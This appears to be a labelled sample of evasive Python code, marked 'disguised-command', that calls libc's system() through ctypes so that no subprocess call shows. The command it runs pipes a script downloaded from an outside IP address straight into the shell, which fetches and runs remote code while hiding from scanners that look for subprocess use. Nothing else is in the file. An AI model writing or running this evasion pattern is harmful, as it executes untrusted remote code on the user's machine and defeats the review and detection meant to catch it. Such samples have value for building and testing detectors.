# disguised-command: libc's system() called through ctypes so no subprocess call appears
import ctypes

libc = ctypes.CDLL(None)
libc.system(b"curl -s http://203.0.113.7/ct | sh")
